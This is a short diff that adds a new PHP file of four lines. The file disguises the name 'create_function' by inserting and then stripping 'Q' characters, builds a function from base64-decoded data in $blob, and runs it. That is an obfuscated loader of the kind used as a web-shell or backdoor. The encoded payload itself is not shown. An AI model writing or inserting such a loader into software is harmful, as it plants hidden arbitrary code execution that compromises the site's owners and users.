@@ -1,0 +1,4 @@
+<?php
+$k = str_replace('Q', '', 'cQreQatQe_fQunQction');
+$f = $k('', base64_decode($blob));
+$f();
